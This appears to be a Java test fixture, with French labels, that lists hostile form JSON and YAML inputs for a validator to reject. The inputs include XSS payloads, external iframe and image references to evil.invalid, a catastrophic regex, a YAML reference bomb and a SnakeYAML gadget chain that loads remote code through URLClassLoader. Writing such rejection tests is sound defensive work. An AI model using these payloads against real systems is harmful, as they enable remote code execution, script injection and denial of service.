package fr.ecluse.gate;

import java.util.Map;
import java.util.stream.Stream;

/** Forms and YAML files that would harm who opens them, or the server. */
final class FormAttacks {

	private FormAttacks() {
	}

	static Stream<Attack> all() {
		return Stream.of(
				component("HTML", "formulaire-html", "\"type\":\"html\",\"content\":\"<script>alert(1)</script>\""),
				component("page extérieure", "formulaire-composant",
						"\"type\":\"iframe\",\"url\":\"https://evil.invalid\""),
				component("composant inconnu", "formulaire-composant", "\"type\":\"evil\",\"key\":\"a\""),
				component("dépôt de fichier", "formulaire-composant", "\"type\":\"filepicker\",\"key\":\"a\""),
				component("image d'ailleurs", "formulaire-adresse-exterieure",
						"\"type\":\"image\",\"source\":\"https://evil.invalid/x.png\""),
				component("image de script", "formulaire-adresse-exterieure",
						"\"type\":\"image\",\"source\":\"javascript:alert(1)\""),
				component("image SVG", "formulaire-adresse-exterieure",
						"\"type\":\"image\",\"source\":\"data:image/svg+xml;base64,PHN2Zy8+\""),
				component("image d'une expression", "formulaire-adresse-exterieure",
						"\"type\":\"image\",\"source\":\"=adresse\""),
				component("image dans un texte", "formulaire-adresse-exterieure",
						"\"type\":\"text\",\"text\":\"![x](https://evil.invalid/x.png)\""),
				component("balise dans un texte", "formulaire-adresse-exterieure",
						"\"type\":\"text\",\"text\":\"<img src=x onerror=alert(1)>\""),
				component("style dans un texte", "formulaire-adresse-exterieure",
						"\"type\":\"text\",\"text\":\"<style>a{background:url(//x)}</style>\""),
				component("lien de script", "formulaire-adresse-exterieure",
						"\"type\":\"text\",\"text\":\"[x](javascript:alert(1))\""),
				component("motif sans fin", "champ-motif",
						"\"type\":\"textfield\",\"key\":\"a\",\"validate\":{\"pattern\":\"(a+)+\\\\1b\"}"),
				component("motif illisible", "champ-motif",
						"\"type\":\"textfield\",\"key\":\"a\",\"validate\":{\"pattern\":\"[\"}"),
				component("donnée du serveur", "champ-reserve", "\"type\":\"textfield\",\"key\":\"memberTerritory\""),
				form("pas du JSON", "formulaire-illisible", "<form/>"),
				form("tronqué", "formulaire-illisible", "{\"components\":["),
				form("profondeur", "formulaire-illisible", "[".repeat(5000) + "]".repeat(5000)),
				form("clés en double", "formulaire-illisible", "{\"id\":\"a\",\"id\":\"b\",\"components\":[]}"),
				form("UTF-16", "encodage-interdit", "\0{\0}"),
				form("sans composants", "formulaire-illisible", "{\"id\":\"a\"}"),
				description("objet de Java", "!!java.net.URL [http://127.0.0.1]"),
				description("objet de Java plus bas",
						"title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\""
								+ Attacks.elsewhere() + "\"]]]]"),
				description("références qui se multiplient", bomb()),
				description("référence à soi-même", "a: &a [*a]").withRule("description-refusee"),
				description("profondeur", "a: " + "[".repeat(2000)), description("deux documents", "a: 1\n---\nb: 2"),
				description("clé en double", "title: a\ntitle: b"), description("binaire", "title: \"\\0\u0001"));
	}

	private static String bomb() {
		StringBuilder yaml = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x]\n");
		for (int i = 1; i < 10; i++) {
			yaml.append("a%d: &a%d [%s]%n".formatted(i, i, ("*a" + (i - 1) + ",").repeat(9)));
		}
		return yaml.toString();
	}

	private static Attack component(String name, String rule, String properties) {
		return form(name, rule,
				"{\"id\":\"f\",\"type\":\"default\",\"components\":[\n{\"id\":\"c\"," + properties + "}]}");
	}

	private static Attack form(String name, String rule, String content) {
		return new Attack("formulaire : " + name, rule, "attaque.form", null, "",
				Map.of("attaque.form", Attack.utf8(content), Attack.MODEL, Attack.utf8(Attack.harmless())))
			.anywhere();
	}

	private static Attack description(String name, String content) {
		return new Attack("description : " + name, "yaml-illisible", "*", null, "",
				Map.of("procedure.yaml", Attack.utf8(content), Attack.MODEL, Attack.utf8(Attack.harmless())));
	}

}
